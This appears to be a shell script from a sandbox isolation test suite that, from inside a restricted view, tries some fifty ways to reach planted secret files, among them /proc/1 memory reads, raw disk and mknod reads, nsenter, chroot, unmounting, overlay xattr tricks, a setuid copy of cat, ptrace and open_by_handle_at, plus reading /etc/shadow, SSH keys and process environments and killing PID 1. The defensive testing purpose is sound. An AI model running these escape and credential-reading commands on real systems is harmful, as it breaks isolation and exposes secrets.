# Runs inside the view and tries to read what is hidden: $PLANTED names the planted files, one a line, relative to the
# project; $STATE is the directory that holds the sessions on the host; $NEEDLE is the beginning of every planted
# value. Whatever it can get it prints; who calls it looks for the planted values in the output.
# $ONLY names the ways to try, where not all are wanted: a control outside the view must not do what some would do.
# No way may stop the script, so it runs without -e, and every way has a time limit.
project=$PWD
ways=0
way() { # way NAME COMMAND…
	name=$1
	shift
	case " ${ONLY-$name} " in *" $name "*) ;; *) return ;; esac
	ways=$((ways + 1))
	printf '== %s\n' "$name"
	timeout 60 "$@" 2>&1 </dev/null | head -c 4000000
}
each() { # each PREFIX: reads every planted file below PREFIX
	for f in $PLANTED; do cat "$1/$f" 2>/dev/null; done
}
export project PLANTED STATE NEEDLE

way name sh -c 'for f in $PLANTED; do cat "$f"; done'
way absolute-name sh -c 'for f in $PLANTED; do cat "$project/$f"; done'
way odd-name sh -c 'for f in $PLANTED; do cat "./$f" "$project/../$(basename "$project")/$f" "/proc/self/cwd/$f"; done'
way glob sh -c 'cat .e* .[a-z]* */id_* */kube* env*'
way everything-below sh -c 'find . -type f -print0 | xargs -0 grep -sIl "$NEEDLE" | xargs -r cat'
way everything-below-root sh -c 'grep -rsIh --devices=skip --exclude-dir=proc --exclude-dir=usr "$NEEDLE" /etc /home /root /tmp /var /run /srv /mnt /media "$HOME" "$STATE"'
way tar sh -c 'tar cf - . | grep -a "$NEEDLE"'
way cp-links sh -c 'cp -al . /tmp/links; grep -rsI "$NEEDLE" /tmp/links; rm -rf /tmp/links'
way hard-link sh -c 'for f in $PLANTED; do ln "$f" stolen && cat stolen; done'
way symlink sh -c 'for f in $PLANTED; do ln -s "$project/$f" stolen; cat stolen; rm -f stolen; done'
way rename sh -c 'for f in $PLANTED; do mv "$f" stolen && cat stolen; done'
way over-the-whiteout sh -c 'for f in $PLANTED; do : >>"$f"; cat "$f"; rm -f "$f"; cat "$f"; mkdir -p "$f"; ls -la "$f"; rmdir "$f"; done'
way directory-again sh -c 'mv deploy deploy2; cat deploy2/*; mkdir -p deploy; cat deploy/*; cp -r config config2; cat config2/*'
way proc-root sh -c 'for p in /proc/[0-9]*; do for f in $PLANTED; do cat "$p/root$project/$f" "$p/cwd/$f"; done; ls "$p/root/" ; done'
way proc-fd sh -c 'for p in /proc/[0-9]*; do ls -l "$p/fd"; for d in "$p"/fd/*; do for f in $PLANTED; do cat "$d/$f" "$d$project/$f"; done; done; done'
way proc-1 sh -c 'cat /proc/1/environ /proc/1/cmdline /proc/1/maps /proc/1/mem; ls -l /proc/1/exe /proc/1/task; dd if=/proc/1/mem bs=1 count=1'
way proc-map-files sh -c 'cat /proc/*/map_files/*'
way mountinfo sh -c 'cat /proc/self/mountinfo; while read -r _ _ _ root at rest; do for f in $PLANTED; do cat "$root/$f" "$at/$f" "$root$project/$f"; done; done </proc/self/mountinfo'
way mount-options sh -c 'tr , "\n" </proc/self/mountinfo | sed -n "s/^.*dir+*=//p" | while read -r d; do ls -la "$d"; cat "$d"/*; done'
way session-directory sh -c 'ls -laR "$STATE"; grep -rsI "$NEEDLE" "$STATE"'
way git sh -c 'git log -p --all; git stash list; git reflog; git fsck --lost-found; git cat-file --batch-all-objects --batch; git grep "$NEEDLE" $(git rev-list --all)'
way git-files sh -c 'ls -laR .git; cat .git/HEAD .git/config .git/index .git/packed-refs .git/logs/HEAD; find / -xdev -name "*.pack" -path "*.git*"'
way git-show-path sh -c 'for f in $PLANTED; do git show "HEAD:$f"; done'
way umount sh -c 'umount "$project"; umount -l "$project"; umount /; each() { :; }; for f in $PLANTED; do cat "$project/$f"; done'
way bind sh -c 'mkdir -p /tmp/b; mount --bind "$project" /tmp/b; mount --rbind / /tmp/b; for f in $PLANTED; do cat "/tmp/b/$f" "/tmp/b$project/$f"; done'
way remount sh -c 'mount -o remount,rw "$project"; mount -o remount,rw /'
way second-overlay sh -c 'mkdir -p /tmp/o /tmp/u /tmp/w; mount -t overlay overlay -o lowerdir="$project",upperdir=/tmp/u,workdir=/tmp/w /tmp/o; for f in $PLANTED; do cat "/tmp/o/$f"; done'
way second-mount sh -c 'mkdir -p /tmp/d; for d in /dev/vda /dev/sda /dev/nvme0n1 /dev/dm-0; do mount "$d" /tmp/d; done; for f in $PLANTED; do cat "/tmp/d$project/$f"; done'
way new-user-namespace sh -c 'unshare -Urm sh -c "umount $project; cat $project/.env; mount -t tmpfs none /tmp; mount -t proc proc /proc"'
way nsenter-1 sh -c 'for n in -a -m -U "-m -U -p"; do nsenter -t 1 $n cat "$project/.env"; done'
way nsenter-self sh -c 'nsenter -t $$ -a cat "$project/.env"; nsenter --mount=/proc/self/ns/mnt cat "$project/.env"'
way chroot sh -c 'chroot /proc/1/root cat "$project/.env"; chroot / cat "$project/.env"'
way pivot-root sh -c 'mkdir -p /tmp/p; pivot_root / /tmp/p; ls /tmp/p'
way raw-disk sh -c 'ls -l /dev; for d in /dev/vda /dev/sda /dev/mem /dev/kmem /dev/port; do dd if=$d bs=1M count=4 | grep -a "$NEEDLE"; done'
way mknod sh -c 'for n in "b 254 0" "b 8 0" "b 253 0" "c 1 1"; do mknod /tmp/node $n && dd if=/tmp/node bs=1M count=4 | grep -a "$NEEDLE"; rm -f /tmp/node; done'
way kcore sh -c 'ls -l /proc/kcore /proc/kmsg /dev/kmsg; head -c 4096 /proc/kcore; dmesg | grep -a "$NEEDLE"'
way sysfs sh -c 'ls /sys /sys/fs /sys/kernel/debug; cat /sys/kernel/debug/*'
way xattrs sh -c 'getfattr -dm - . .git deploy; setfattr -n user.overlay.opaque -v n .git; setfattr -n user.overlay.redirect -v / deploy; setfattr -x user.overlay.whiteout .env; ls -la .git; cat .env'
way privilege sh -c 'su -c "cat $project/.env" root; sudo -n cat "$project/.env"; cp /bin/cat /tmp/c; chmod u+s /tmp/c; /tmp/c "$project/.env"'
way others-home sh -c 'cat /root/.ssh/* /home/*/.ssh/* /etc/shadow /etc/gshadow /etc/ssl/private/* /etc/ssh/ssh_host_*_key'
way sockets sh -c 'ls -la /run /var/run /tmp; cat /proc/net/unix; ls /run/user/*/'
way signals sh -c 'kill -9 1; kill -ABRT 1; kill -QUIT 1; ls -la /tmp/core* core*; grep -as "$NEEDLE" /tmp/core* core*'
way environment sh -c 'env; cat /proc/*/environ | tr "\0" "\n"'
if command -v python3 >/dev/null; then
	way ptrace-1 python3 -c '
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for request in (16, 0x4206):
    print("ptrace", request, libc.ptrace(request, 1, 0, 0), os.strerror(ctypes.get_errno()))
buf = ctypes.create_string_buffer(64)
class iovec(ctypes.Structure): _fields_ = [("b", ctypes.c_void_p), ("n", ctypes.c_size_t)]
v = iovec(ctypes.addressof(buf), 64); w = iovec(0x400000, 64)
print("process_vm_readv", libc.process_vm_readv(1, ctypes.byref(v), 1, ctypes.byref(w), 1, 0), buf.raw)'
	way file-handle python3 -c '
import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
h = ctypes.create_string_buffer(struct.pack("II", 128, 0) + b"\0" * 128, 136); m = ctypes.c_int()
print("name_to_handle_at", libc.name_to_handle_at(-100, b".", h, ctypes.byref(m), 0), os.strerror(ctypes.get_errno()))
fd = os.open(".", os.O_RDONLY)
for ino in range(1, 4096):
    struct.pack_into("IIII", h, 0, 8, 1, ino, 0)
    r = libc.open_by_handle_at(fd, h, 0)
    if r >= 0: print(os.read(r, 4096))
print("open_by_handle_at", os.strerror(ctypes.get_errno()))'
	way pidfd python3 -c '
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
p = libc.syscall(434, 1, 0)
print("pidfd_open", p)
for fd in range(64):
    r = libc.syscall(438, p, fd, 0)
    if r >= 0:
        print("got fd", fd, os.readlink("/proc/self/fd/%d" % r))
        for f in os.environ["PLANTED"].split():
            try: print(open(os.open(f, os.O_RDONLY, dir_fd=r)).read())
            except OSError as e: print(e)'
	way open-tree python3 -c '
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
print("open_tree", libc.syscall(428, -100, b"/", 1 | 0x8000), os.strerror(ctypes.get_errno()))
print("fsopen", libc.syscall(430, b"overlay", 0), os.strerror(ctypes.get_errno()))
print("clone3", libc.syscall(435, 0, 0), os.strerror(ctypes.get_errno()))
print("io_uring_setup", libc.syscall(425, 1, 0), os.strerror(ctypes.get_errno()))'
	way abstract-sockets python3 -c '
import socket
for line in open("/proc/net/unix"):
    name = line.split()[-1]
    if name.startswith("@"):
        s = socket.socket(socket.AF_UNIX)
        try: s.connect("\0" + name[1:]); print("connected", name)
        except OSError as e: print(name, e)'
	way network python3 -c '
import socket
for a in (("127.0.0.1", 22), ("127.0.0.1", 53)):
    s = socket.socket(); s.settimeout(2)
    try: s.connect(a); print("connected", a)
    except OSError as e: print(a, e)
print(socket.if_nameindex())'
fi
printf '== %d ways tried\n' "$ways"
